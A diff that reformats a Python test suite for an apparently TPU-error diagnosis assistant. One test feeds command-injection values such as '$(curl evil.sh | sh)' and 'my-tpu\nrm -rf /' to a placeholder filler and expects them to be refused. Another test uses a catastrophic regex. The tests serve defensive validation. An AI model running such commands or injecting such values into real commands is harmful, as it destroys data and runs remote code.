@@ -26,12 +26,33 @@ RESULT_KEYS = {"id", "title", "score", "confidence", "why", "source"}
 texty = st.one_of(
     st.text(max_size=2000),
     st.binary(max_size=2000),
-    st.text(alphabet=st.characters(codec="utf-8", categories=["Cc", "Cf", "Zs", "So", "Mn"]),
-            max_size=500),
-    st.lists(st.sampled_from(["ResourceExhaustedError: ", "hbm", "\x1b[31m", "[bold]", "\n",
-                              "XLA_TPU_JIT", "None", "0x7f3a", "v3-8", "--zone=", "é", "🔥",
-                              "\u202e", "\x00", "{{node a}}", "[link=http://x]"]),
-             max_size=60).map("".join),
+    st.text(
+        alphabet=st.characters(codec="utf-8", categories=["Cc", "Cf", "Zs", "So", "Mn"]),
+        max_size=500,
+    ),
+    st.lists(
+        st.sampled_from(
+            [
+                "ResourceExhaustedError: ",
+                "hbm",
+                "\x1b[31m",
+                "[bold]",
+                "\n",
+                "XLA_TPU_JIT",
+                "None",
+                "0x7f3a",
+                "v3-8",
+                "--zone=",
+                "é",
+                "🔥",
+                "\u202e",
+                "\x00",
+                "{{node a}}",
+                "[link=http://x]",
+            ]
+        ),
+        max_size=60,
+    ).map("".join),
 )
 
 
@@ -51,27 +72,42 @@ def test_parser_never_raises(raw):
     json.dumps(facts.to_dict())
 
 
-@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow,
-                                                                 HealthCheck.function_scoped_fixture])
+@settings(
+    max_examples=80,
+    deadline=None,
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
+)
 @given(texty)
 def test_ask_never_raises_and_keeps_its_shape(engine, raw):
     _check_shape(engine.ask(raw).to_dict())
 
 
-@pytest.mark.parametrize("raw", [
-    "", "   \n\t ", b"\x00\xff\xfe\x80", "\x00" * 1000, "x" * 1_000_000,
-    "ResourceExhaustedError: Ran out of memory in memory space hbm " + "é🔥" * 1000,
-    "مرحبا بالعالم، هذا نص عربي", "今日はTPUのメモリが足りません", "\u202eevil\u202c text",
-])
+@pytest.mark.parametrize(
+    "raw",
+    [
+        "",
+        "   \n\t ",
+        b"\x00\xff\xfe\x80",
+        "\x00" * 1000,
+        "x" * 1_000_000,
+        "ResourceExhaustedError: Ran out of memory in memory space hbm " + "é🔥" * 1000,
+        "مرحبا بالعالم، هذا نص عربي",
+        "今日はTPUのメモリが足りません",
+        "\u202eevil\u202c text",
+    ],
+)
 def test_odd_inputs(engine, raw):
     _check_shape(engine.ask(raw).to_dict())
 
 
 def test_huge_log_is_cut_to_key_lines_and_says_so(engine):
     noise = "I0302 11:04:12.118 1 x.cc:1] step 1234 loss=0.1234 examples/sec=100\n"
-    raw = noise * 150_000 + \
-        "tensorflow.python.framework.errors_impl.ResourceExhaustedError: Ran out of memory in " \
+    raw = (
+        noise
+        * 150_000
+        + "tensorflow.python.framework.errors_impl.ResourceExhaustedError: Ran out of memory in "
         "memory space hbm; used: 9.82G; limit: 7.48G.\n"
+    )
     assert len(raw) > MAX_CHARS
     a = engine.ask(raw)
     assert a.facts.truncated and any("cut" in n for n in a.notes)
@@ -79,8 +115,10 @@ def test_huge_log_is_cut_to_key_lines_and_says_so(engine):
 
 
 def test_one_hundred_thousand_lines(engine):
-    raw = "\n".join(f"line {i}" for i in range(100_000)) + \
-        "\nNotFoundError: No registered 'StringSplitV2' OpKernel for XLA_TPU_JIT devices"
+    raw = (
+        "\n".join(f"line {i}" for i in range(100_000))
+        + "\nNotFoundError: No registered 'StringSplitV2' OpKernel for XLA_TPU_JIT devices"
+    )
     a = engine.ask(raw)
     assert a.best.id == "op-unavailable"
 
@@ -95,8 +133,20 @@ def test_cli_bad_stdin(run_cli):
 
 # -- hostile placeholder values -----------------------------------------------------------------
 
-@pytest.mark.parametrize("value", ["x; rm -rf ~", "$(curl evil.sh | sh)", "`id`", "a b",
-                                   "my-tpu\nrm -rf /", "UPPER", "-rf", "../../etc"])
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "x; rm -rf ~",
+        "$(curl evil.sh | sh)",
+        "`id`",
+        "a b",
+        "my-tpu\nrm -rf /",
+        "UPPER",
+        "-rf",
+        "../../etc",
+    ],
+)
 def test_known_placeholders_refuse_hostile_values(value):
     with pytest.raises(placeholders.PlaceholderError):
         placeholders.fill("gcloud compute tpus tpu-vm stop {tpu_name}", {"tpu_name": value})
@@ -122,11 +172,14 @@ def test_walk_cli_refuses_injected_value(run_cli):
 
 # -- regexes cannot hang ------------------------------------------------------------------------
 
+
 @pytest.mark.timeout(30)
 def test_catastrophic_regex_in_a_user_entry_cannot_hang(tmp_path):
     from assistant.retrieval.signatures import match_signatures
 
-    text = SAMPLE.read_text().replace(r"'SampleError: (?P<op_name>\w+) failed'", r"'(?P<op_name>(a+)+)+$'")
+    text = SAMPLE.read_text().replace(
+        r"'SampleError: (?P<op_name>\w+) failed'", r"'(?P<op_name>(a+)+)+$'"
+    )
     (tmp_path / "sample-entry.yaml").write_text(text)
     kb = load_knowledge(builtin=tmp_path, user_dirs=[])
     hits = match_signatures(kb.entries, ["a" * 200_000 + "!"])
@@ -134,6 +187,7 @@ def test_catastrophic_regex_in_a_user_entry_cannot_hang(tmp_path):
 
 
 # -- user knowledge -----------------------------------------------------------------------------
+
 
 def _user_entry(tmp_path: Path, name: str = "my-runbook", extra: str = "") -> Path:
     d = tmp_path / "userkb"
@@ -154,7 +208,8 @@ def test_user_entries_are_indexed_and_marked(tmp_path, run_cli, cli_env):
     assert best["id"] == "my-runbook" and best["source"] == "user"
     listed = json.loads(run_cli("--kb", str(d), "kb", "list", "--json", env=env).stdout)
     assert {"id": "my-runbook", "source": "user"}.items() <= next(
-        e for e in listed if e["id"] == "my-runbook").items()
+        e for e in listed if e["id"] == "my-runbook"
+    ).items()
 
 
 def test_broken_user_entry_is_skipped_with_warning(tmp_path, run_cli):
@@ -175,9 +230,16 @@ def test_broken_user_entry_is_skipped_with_warning(tmp_path, run_cli):
 def test_two_processes_building_at_once(tmp_path, cli_env):
     env = dict(cli_env, TPU_ASSIST_INDEX_DIR=str(tmp_path / "idx"))
     shutil.copytree(cli_env["TPU_ASSIST_INDEX_DIR"], tmp_path / "idx")
-    procs = [subprocess.Popen([sys.executable, "-m", "assistant", "kb", "build", "--force"],
-                              env=env, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
-             for _ in range(2)]
+    procs = [
+        subprocess.Popen(
+            [sys.executable, "-m", "assistant", "kb", "build", "--force"],
+            env=env,
+            cwd=ROOT,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+        )
+        for _ in range(2)
+    ]
     outs = [p.communicate(timeout=300) for p in procs]
     assert all(p.returncode == 0 for p in procs), outs
     from assistant import store
